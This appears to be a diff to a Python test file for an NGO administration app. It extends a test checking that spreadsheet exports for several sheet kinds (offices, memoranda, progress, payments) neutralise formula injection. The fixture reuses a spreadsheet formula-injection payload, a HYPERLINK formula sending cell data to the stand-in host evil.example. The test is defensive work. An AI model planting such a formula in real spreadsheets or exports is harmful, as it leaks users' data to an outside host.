@@ -25,13 +25,32 @@ from ostandari_desk.services import audit_export, files, transfer
 from ostandari_desk.services.audit import AuditFilter
 from ostandari_desk.services.transfer import centres as centre_sheet
 from ostandari_desk.services.transfer import inspections as visit_sheet
+from ostandari_desk.services.transfer import memoranda as memo_sheet
+from ostandari_desk.services.transfer import offices as office_sheet
+from ostandari_desk.services.transfer import payments as payment_sheet
+from ostandari_desk.services.transfer import progress as progress_sheet
 from ostandari_desk.services.transfer.sheet_writer import FORMULA_STARTS, MAX_XLSX_CELL, neutralise
 from ostandari_desk.store.models import Ngo
 
 CENTRE_HEADERS = [c.header for c in centre_sheet.COLUMNS]
 VISIT_HEADERS = [c.header for c in visit_sheet.COLUMNS]
+MEMO_HEADERS = [c.header for c in memo_sheet.COLUMNS]
+OFFICE_HEADERS = [c.header for c in office_sheet.COLUMNS]
+PROGRESS_HEADERS = [c.header for c in progress_sheet.COLUMNS]
+PAYMENT_HEADERS = [c.header for c in payment_sheet.COLUMNS]
 INJECT = '=HYPERLINK("http://evil.example/?d="&A2,"پیوند")'
-KINDS = ("ngos", "licences", "events", "letters", "centres", "inspections")
+KINDS = (
+    "ngos",
+    "licences",
+    "events",
+    "letters",
+    "centres",
+    "inspections",
+    "memoranda",
+    "progress",
+    "payments",
+    "offices",
+)
 
 
 def write_csv(path: Path, rows) -> Path:
@@ -84,6 +103,17 @@ def seeded(desk, tmp_path):
             VISIT_HEADERS,
             ["KSH-1", "1401/6/9", "10:00", "سرزده", "@بازرس", "مطلوب", "90", INJECT, "", "", ""],
         ],
+        # the offices first: a memorandum names its office (a payment's only text is its memorandum's number)
+        "offices": [
+            OFFICE_HEADERS,
+            [INJECT, "آبیک", "-محله یک، محله دو", national_id, "1401/6/9", "1000", ""],
+        ],
+        "memoranda": [
+            MEMO_HEADERS,
+            ["-12/ت", INJECT, "فرمانداری", "آبیک", "", INJECT, "1000000", "1401/6/9", "", "", ""],
+        ],
+        "progress": [PROGRESS_HEADERS, ["-12/ت", "1401/7/1", "50", INJECT]],
+        "payments": [PAYMENT_HEADERS, ["-12/ت", "1401/7/2", "1", "500000"]],
     }
     for kind, rows in sheets.items():
         report = transfer.import_file(desk.uow, kind, write_csv(inbox / f"{kind}.csv", rows))
@@ -116,7 +146,7 @@ def test_no_export_kind_writes_a_live_formula(seeded, tmp_path, kind):
     values = xlsx_cells(xlsx)
     leading = [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
     assert leading  # the text is kept as it was, typed as text
-    if kind != "licences":
+    if kind not in ("licences", "payments"):
         assert INJECT in values or any(v.endswith(INJECT) for v in leading)
 
     out = tmp_path / f"{kind}.csv"
